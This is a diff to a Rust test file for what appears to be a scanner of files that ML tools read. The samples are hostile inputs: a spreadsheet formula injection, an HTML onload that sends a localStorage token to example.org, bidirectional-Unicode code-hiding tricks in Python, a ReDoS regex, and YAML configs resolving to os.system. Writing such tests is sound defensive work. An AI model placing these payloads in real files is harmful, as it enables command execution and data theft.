@@ -115,6 +115,7 @@ fn files_that_tools_obey_are_read() {
         ("results.csv", "model,score\nx,=cmd|'/c echo'!A1\n"),
         ("x.html", "<body onload=\"fetch('http://example.org/'+localStorage.getItem('t'))\">"),
         ("x.svg", "<svg onload=\"location='http://example.org'\"></svg>"),
+        ("x.py", "def f():\n    ''' Subtract \u{2067}''' ;return\n"),
         ("x.py", "if a != 'user\u{202e} \u{2066}# admin\u{2069} \u{2066}':\n    pass\n"),
         ("tokenizer.json", r#"{"pre_tokenizer": {"pattern": {"Regex": "((a+)+)+$"}}}"#),
     ] as &[(&str, &str)]);
@@ -132,6 +133,7 @@ fn files_that_tools_obey_are_read() {
         ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n"),
         ("results.csv", "model,score\nx,-1|2\n"),
         ("x.html", "<script>localStorage.getItem('a'); fetch('https://example.org/');</script>"),
+        ("x.py", "A = [\n    r\"\u{202a}\u{202a}test\u{202a}\",\n]\n"),
         ("x.py", "a = '\u{5e9}\u{5dc}\u{202c}'\nb = ['\u{202a}', '\u{202b}']\n"),
         (
             "tokenizer.json",
@@ -182,4 +184,17 @@ fn cells_of_notebooks_are_commands_too() {
     ]
     .map(notebook);
     told::none_refused(&good.iter().map(|text| ("x.ipynb", text.as_str())).collect::<Vec<_>>());
+}
+
+#[test]
+fn what_is_too_much_to_remember_is_not_passed() {
+    let many = "- {_target_: torch.nn.Linear}\n".repeat(20_001);
+    let last = format!("{many}- {{_target_: os.system}}\n");
+    let long = format!("m:\n  _target_: ${{oc.env:{},os.system}}\n", "A".repeat(300));
+    let values: String = (0..20_001).map(|number| format!("k{number}: x\n")).collect();
+    let full = format!("{values}p: os.system\nm:\n  _target_: ${{p}}\n");
+    told::all_refused(
+        &[("x.yaml", &last), ("x.yaml", &long), ("x.yaml", &full)]
+            .map(|(name, text): (&str, &String)| (name, text.as_str())),
+    );
 }
